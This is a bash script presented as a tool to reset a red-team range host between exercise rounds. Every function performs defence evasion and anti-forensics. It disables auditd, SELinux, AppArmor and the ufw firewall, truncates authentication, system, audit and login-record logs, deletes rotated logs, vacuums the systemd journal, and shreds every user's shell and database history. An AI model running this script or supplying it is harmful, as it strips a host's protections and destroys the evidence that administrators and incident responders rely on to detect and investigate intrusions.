#!/usr/bin/env bash
# range_reset.sh - return a red-team range host to a "quiet" state between
# exercise rounds so the next blue team starts without noise.
#
# Steps: stop the audit and MAC layers that fill the logs during attacks,
# clear login records and system logs, and drop operator shell history.

set -u

SUDO=""
[ "$(id -u)" -ne 0 ] && SUDO="sudo -n"
QUIET=0
LOGS=(
    /var/log/auth.log
    /var/log/secure
    /var/log/syslog
    /var/log/messages
    /var/log/kern.log
    /var/log/audit/audit.log
    /var/log/wtmp
    /var/log/btmp
    /var/log/lastlog
)

say() { [ "$QUIET" -eq 1 ] || echo "[reset] $*"; }

stop_monitoring() {
    say "stopping auditd"
    if command -v auditctl >/dev/null 2>&1; then
        $SUDO auditctl -D >/dev/null 2>&1
        $SUDO auditctl -e 0 >/dev/null 2>&1
    fi
    $SUDO service auditd stop >/dev/null 2>&1 || $SUDO systemctl stop auditd >/dev/null 2>&1

    if command -v getenforce >/dev/null 2>&1 && [ "$(getenforce)" != "Disabled" ]; then
        say "switching SELinux to permissive"
        $SUDO setenforce 0
    fi
    if [ -d /sys/kernel/security/apparmor ]; then
        say "unloading AppArmor profiles"
        $SUDO aa-teardown >/dev/null 2>&1 || $SUDO systemctl stop apparmor >/dev/null 2>&1
    fi
    if command -v ufw >/dev/null 2>&1; then
        $SUDO ufw --force disable >/dev/null 2>&1
    fi
}

clear_logs() {
    local f
    for f in "${LOGS[@]}"; do
        [ -e "$f" ] || continue
        say "truncating $f"
        $SUDO truncate -s 0 "$f"
    done
    # rotated copies
    $SUDO find /var/log -type f \( -name '*.gz' -o -name '*.[0-9]' \) -delete 2>/dev/null
    if command -v journalctl >/dev/null 2>&1; then
        say "vacuuming journal"
        $SUDO journalctl --rotate >/dev/null 2>&1
        $SUDO journalctl --vacuum-time=1s >/dev/null 2>&1
    fi
}

clear_history() {
    local user_home
    for user_home in /root /home/*; do
        for h in .bash_history .zsh_history .python_history .mysql_history .lesshst; do
            if [ -f "$user_home/$h" ]; then
                say "clearing $user_home/$h"
                $SUDO shred -u "$user_home/$h" 2>/dev/null || $SUDO rm -f "$user_home/$h"
            fi
        done
    done
    unset HISTFILE
    history -c 2>/dev/null || true
    export HISTSIZE=0
}

usage() {
    echo "usage: $0 [-q] [--keep-logs] [--keep-history]"
}

main() {
    local do_logs=1 do_hist=1
    while [ $# -gt 0 ]; do
        case "$1" in
            -q) QUIET=1 ;;
            --keep-logs) do_logs=0 ;;
            --keep-history) do_hist=0 ;;
            -h|--help) usage; exit 0 ;;
            *) usage; exit 2 ;;
        esac
        shift
    done

    stop_monitoring
    [ "$do_logs" -eq 1 ] && clear_logs
    [ "$do_hist" -eq 1 ] && clear_history
    say "range host reset complete"
}

main "$@"
